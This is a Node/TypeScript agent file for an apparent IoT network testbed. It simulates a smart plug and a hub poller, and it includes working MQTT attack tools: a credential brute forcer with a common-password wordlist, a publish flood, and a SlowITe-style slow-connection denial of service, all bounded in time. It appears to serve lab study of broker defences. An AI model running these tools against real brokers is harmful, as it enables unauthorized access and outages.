#!/usr/bin/env node
/**
 * Small programs the testbed runs INSIDE a host's network namespace (`ip netns exec NS node agent.js
 * KIND 'JSON'`): the smart plug's HTTP server, the hub's HTTP poller, and the MQTT attack tools
 * (credential brute force, publish flood, slow connections). Every agent is bounded in count and time,
 * stops on SIGTERM/SIGINT, and prints one JSON summary line on stdout when it ends.
 */
import http from "node:http";
import net from "node:net";
import { connectPacket, disconnectPacket, MQTT_TYPE, MqttFramer, publishPacket } from "./mqtt-wire.js";

type Args = Record<string, unknown>;

const stopHandlers: (() => void)[] = [];
let stopping = false;
function onStop(fn: () => void): void {
  stopHandlers.push(fn);
}
function stopAll(): void {
  if (stopping) return;
  stopping = true;
  for (const f of stopHandlers) f();
}
process.on("SIGTERM", stopAll);
process.on("SIGINT", stopAll);

function num(a: Args, k: string, dflt: number): number {
  const v = a[k];
  if (v === undefined) return dflt;
  if (typeof v !== "number" || !Number.isFinite(v) || v < 0)
    throw new Error(`agent argument ${k} must be a number >= 0`);
  return v;
}
function str(a: Args, k: string, dflt?: string): string {
  const v = a[k];
  if (v === undefined && dflt !== undefined) return dflt;
  if (typeof v !== "string") throw new Error(`agent argument ${k} must be a string`);
  return v;
}

const sleep = (ms: number) => new Promise<void>((r) => setTimeout(r, ms));

function summary(o: Record<string, unknown>): void {
  process.stdout.write(`${JSON.stringify(o)}\n`);
}

/** Deterministic pseudo-random numbers (mulberry32) so runs are comparable. */
function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// ---------------------------------------------------------------- benign HTTP device and poller

async function httpDevice(a: Args): Promise<void> {
  const host = str(a, "host");
  const port = num(a, "port", 8080);
  const maxMs = num(a, "maxMs", 3_600_000);
  const rand = rng(7);
  let relay = true;
  let requests = 0;
  const server = http.createServer((req, res) => {
    requests++;
    if (req.method === "GET" && req.url === "/status") {
      const watts = relay ? 40 + rand() * 20 : 0;
      const body = JSON.stringify({
        relay,
        power_w: Math.round(watts * 10) / 10,
        voltage_v: Math.round((229 + rand() * 3) * 10) / 10,
        energy_wh: Math.round(Date.now() / 3600) % 100000,
        uptime_s: Math.round(process.uptime()),
      });
      res.writeHead(200, { "content-type": "application/json", "content-length": Buffer.byteLength(body) });
      res.end(body);
    } else if (req.method === "POST" && req.url === "/relay") {
      req.resume();
      req.on("end", () => {
        relay = !relay;
        res.writeHead(204);
        res.end();
      });
    } else {
      res.writeHead(404);
      res.end();
    }
  });
  await new Promise<void>((resolve, reject) => {
    server.once("error", reject);
    server.listen(port, host, resolve);
  });
  await new Promise<void>((resolve) => {
    const t = setTimeout(resolve, maxMs);
    onStop(() => {
      clearTimeout(t);
      resolve();
    });
  });
  server.close();
  server.closeAllConnections();
  summary({ agent: "http-device", requests });
}

function httpRequest(method: string, url: string, timeoutMs: number): Promise<number> {
  return new Promise((resolve) => {
    const req = http.request(url, { method, agent: false, timeout: timeoutMs }, (res) => {
      res.resume();
      res.on("end", () => resolve(res.statusCode ?? 0));
    });
    req.on("timeout", () => req.destroy());
    req.on("error", () => resolve(-1));
    req.end();
  });
}

async function httpPoller(a: Args): Promise<void> {
  const base = str(a, "url");
  const intervalMs = num(a, "intervalMs", 1000);
  const toggleEvery = num(a, "toggleEvery", 15);
  const maxMs = num(a, "maxMs", 3_600_000);
  const end = Date.now() + maxMs;
  let ok = 0;
  let failed = 0;
  let n = 0;
  while (!stopping && Date.now() < end) {
    const started = Date.now();
    n++;
    const code =
      toggleEvery > 0 && n % toggleEvery === 0
        ? await httpRequest("POST", `${base}/relay`, 2000)
        : await httpRequest("GET", `${base}/status`, 2000);
    if (code >= 200 && code < 300) ok++;
    else failed++;
    await sleep(Math.max(0, intervalMs - (Date.now() - started)));
  }
  summary({ agent: "http-poller", ok, failed });
}

// ---------------------------------------------------------------- MQTT attack tools

/** One TCP connection that sends CONNECT and waits for CONNACK (or close / timeout). Returns the rc or -1. */
function tryConnect(host: string, port: number, pkt: Buffer, timeoutMs: number): Promise<number> {
  return new Promise((resolve) => {
    const sock = net.connect({ host, port });
    const framer = new MqttFramer();
    let rc = -1;
    const finish = () => {
      clearTimeout(timer);
      sock.destroy();
      resolve(rc);
    };
    const timer = setTimeout(finish, timeoutMs);
    sock.on("connect", () => sock.write(pkt));
    sock.on("data", (d) => {
      for (const p of framer.push(d)) {
        if (p.type === MQTT_TYPE.CONNACK && p.body.length >= 2) {
          rc = p.body[1];
          if (rc === 0) sock.write(disconnectPacket());
          sock.end();
        }
      }
    });
    sock.on("error", finish);
    sock.on("close", finish);
  });
}

async function mqttBrute(a: Args): Promise<void> {
  const host = str(a, "host");
  const port = num(a, "port", 1883);
  const rate = num(a, "rate", 10);
  const durationMs = num(a, "durationMs", 10_000);
  const maxAttempts = num(a, "maxAttempts", 1000);
  const users = (a.users as string[] | undefined) ?? ["admin"];
  const words = [
    "123456",
    "password",
    "admin",
    "mosquitto",
    "iot",
    "letmein",
    "qwerty",
    "raspberry",
    "root",
    "default",
  ];
  const end = Date.now() + durationMs;
  const rcs: Record<string, number> = {};
  let attempts = 0;
  const gapMs = rate > 0 ? 1000 / rate : 100;
  while (!stopping && Date.now() < end && attempts < maxAttempts) {
    const started = Date.now();
    const user = users[attempts % users.length];
    const pass = `${words[Math.floor(attempts / users.length) % words.length]}${Math.floor(attempts / (users.length * words.length)) || ""}`;
    const pkt = connectPacket({
      clientId: `probe-${attempts}`,
      username: user,
      password: pass,
      keepAlive: 30,
    });
    const rc = await tryConnect(host, port, pkt, 2000);
    rcs[rc] = (rcs[rc] ?? 0) + 1;
    attempts++;
    await sleep(Math.max(0, gapMs - (Date.now() - started)));
  }
  summary({ agent: "mqtt-brute", attempts, connackCodes: rcs });
}

async function mqttFlood(a: Args): Promise<void> {
  const host = str(a, "host");
  const port = num(a, "port", 1883);
  const rate = num(a, "rate", 200);
  const durationMs = num(a, "durationMs", 10_000);
  const payloadBytes = num(a, "payloadBytes", 128);
  const topic = str(a, "topic", "sensors/thermo1/temperature");
  const sock = net.connect({ host, port });
  sock.setNoDelay(true);
  const framer = new MqttFramer();
  let connack = -1;
  let sent = 0;
  const rand = rng(99);
  await new Promise<void>((resolve, reject) => {
    const t = setTimeout(() => reject(new Error("no CONNACK within 5 s")), 5000);
    sock.on("error", reject);
    sock.on("connect", () =>
      sock.write(
        connectPacket({
          clientId: "flood-1",
          username: str(a, "username"),
          password: str(a, "password"),
          keepAlive: 60,
        }),
      ),
    );
    sock.on("data", (d) => {
      for (const p of framer.push(d)) {
        if (p.type === MQTT_TYPE.CONNACK) {
          connack = p.body[1];
          clearTimeout(t);
          resolve();
        }
      }
    });
  });
  if (connack !== 0) throw new Error(`broker refused the flood client (CONNACK ${connack})`);
  const end = Date.now() + durationMs;
  const tickMs = 10;
  const started = Date.now();
  while (!stopping && Date.now() < end && !sock.destroyed) {
    const due = Math.floor(((Date.now() - started) / 1000) * rate);
    while (sent < due) {
      const body = Buffer.alloc(payloadBytes);
      for (let i = 0; i < payloadBytes; i++) body[i] = 33 + Math.floor(rand() * 90);
      sock.write(publishPacket(topic, body, 0));
      sent++;
    }
    await sleep(tickMs);
  }
  sock.end(disconnectPacket());
  await sleep(200);
  sock.destroy();
  summary({ agent: "mqtt-flood", published: sent });
}

async function mqttSlow(a: Args): Promise<void> {
  const host = str(a, "host");
  const port = num(a, "port", 1883);
  const connections = num(a, "connections", 100);
  const openRate = num(a, "openRate", 20);
  const dribbleMs = num(a, "dribbleMs", 2000);
  const durationMs = num(a, "durationMs", 10_000);
  const socks: net.Socket[] = [];
  let opened = 0;
  let closedByPeer = 0;
  let bytesDribbled = 0;
  const end = Date.now() + durationMs;
  const timers: NodeJS.Timeout[] = [];
  // SlowITe-like: a CONNECT whose keep-alive is the maximum (65535 s), sent one byte at a time, so the
  // broker holds a slot for a client that never finishes connecting.
  for (let i = 0; i < connections && !stopping && Date.now() < end; i++) {
    const sock = net.connect({ host, port });
    socks.push(sock);
    let pos = 0;
    const pkt = connectPacket({ clientId: `slow-${i}-${"x".repeat(40)}`, keepAlive: 65535 });
    sock.on("connect", () => {
      opened++;
      sock.write(pkt.subarray(0, 2));
      pos = 2;
      const t = setInterval(() => {
        if (sock.destroyed || pos >= pkt.length - 1) return;
        sock.write(pkt.subarray(pos, pos + 1));
        pos++;
        bytesDribbled++;
      }, dribbleMs);
      timers.push(t);
    });
    sock.on("close", () => {
      if (!stopping && Date.now() < end) closedByPeer++;
    });
    sock.on("error", () => {});
    await sleep(openRate > 0 ? 1000 / openRate : 50);
  }
  while (!stopping && Date.now() < end) await sleep(100);
  for (const t of timers) clearInterval(t);
  for (const s of socks) s.end();
  await sleep(300);
  for (const s of socks) s.destroy();
  summary({ agent: "mqtt-slow", opened, closedByPeer, bytesDribbled });
}

const AGENTS: Record<string, (a: Args) => Promise<void>> = {
  "http-device": httpDevice,
  "http-poller": httpPoller,
  "mqtt-brute": mqttBrute,
  "mqtt-flood": mqttFlood,
  "mqtt-slow": mqttSlow,
};

async function main(): Promise<void> {
  const [kind, json] = process.argv.slice(2);
  const fn = kind ? AGENTS[kind] : undefined;
  if (!fn) {
    process.stderr.write(`usage: agent.js <${Object.keys(AGENTS).join("|")}> '<json args>'\n`);
    process.exit(2);
  }
  let args: Args;
  try {
    args = JSON.parse(json ?? "{}") as Args;
  } catch {
    process.stderr.write(`agent ${kind}: arguments are not JSON: ${json}\n`);
    process.exit(2);
  }
  // A hard bound: no agent outlives its duration by more than 10 s, whatever happens.
  const hardMs =
    (typeof args.durationMs === "number" ? args.durationMs : ((args.maxMs as number) ?? 3_600_000)) + 10_000;
  setTimeout(() => {
    process.stderr.write(`agent ${kind}: hard time limit reached\n`);
    process.exit(3);
  }, hardMs).unref();
  await fn(args);
  process.exit(0);
}

main().catch((e: unknown) => {
  process.stderr.write(`agent error: ${e instanceof Error ? e.message : String(e)}\n`);
  process.exit(1);
});
